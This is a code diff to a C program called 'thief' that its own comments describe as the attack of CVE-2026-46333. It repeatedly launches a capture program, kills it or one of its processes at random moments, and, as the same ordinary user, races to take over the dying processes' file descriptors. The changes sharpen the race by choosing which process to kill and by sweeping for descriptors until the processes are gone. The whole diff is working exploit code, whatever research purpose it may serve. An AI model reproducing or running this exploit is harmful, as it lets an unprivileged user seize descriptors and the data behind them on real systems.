@@ -1,6 +1,6 @@
 /*
- * Starts a capture many times, kills it at a random moment, and all the while, as the same
- * ordinary uid, asks the kernel for its descriptors: the attack of CVE-2026-46333.
+ * Starts a capture many times, kills it, or one of its processes, at a random moment, and all the
+ * while, as the same ordinary uid, asks the kernel for their descriptors: CVE-2026-46333.
  *
  *   thief STARTS SECONDS LIFE_MS PROGRAM [ARGUMENT...]
  *
@@ -26,6 +26,7 @@
 #define LAST_FD 11
 #define START_MS 20000
 #define READY_LIFE_MS 50
+#define OTHERS_LIVE_MS 200
 #define MOURNING_MS 2000
 
 struct prey {
@@ -117,9 +118,13 @@ static void start(struct prey *prey, char **argv)
 
 static void end(struct prey *prey, bool all)
 {
+	int chosen = (int)random() % PROCESSES;
+
 	find_processes(prey);
-	for (int i = 0; i < (all ? PROCESSES : 1); i++)
-		if (prey->pidfds[i] >= 0)
+	while (prey->pidfds[chosen] < 0) /* the first one is always there: not yet waited for */
+		chosen = (chosen + 1) % PROCESSES;
+	for (int i = 0; i < PROCESSES; i++)
+		if (prey->pidfds[i] >= 0 && (all || i == chosen))
 			syscall(SYS_pidfd_send_signal, prey->pidfds[i], SIGKILL, NULL, 0);
 }
 
@@ -131,9 +136,17 @@ static bool lives(const struct prey *prey)
 	return false;
 }
 
+/* To the last moment: a process that has no memory any more still has its descriptors. */
+static void mourn(struct prey *prey, long at_most_ms)
+{
+	long until = now_ms() + at_most_ms;
+
+	while (lives(prey) && now_ms() < until)
+		sweep(prey);
+}
+
 static void forget(struct prey *prey)
 {
-	end(prey, true); /* whoever is left */
 	for (int i = 0; i < PROCESSES; i++)
 		if (prey->pidfds[i] >= 0)
 			close(prey->pidfds[i]);
@@ -162,8 +175,9 @@ static bool hunt(struct prey *prey, char **argv, long life_ms, bool once_ready, 
 	} while (now_ms() < until);
 	ready = is_ready(prey->output);
 	end(prey, all);
-	for (until = now_ms() + MOURNING_MS; lives(prey) && now_ms() < until;)
-		sweep(prey);
+	mourn(prey, OTHERS_LIVE_MS); /* one that was killed alone should take the others with it */
+	end(prey, true);
+	mourn(prey, MOURNING_MS);
 	forget(prey);
 	return ready;
 }
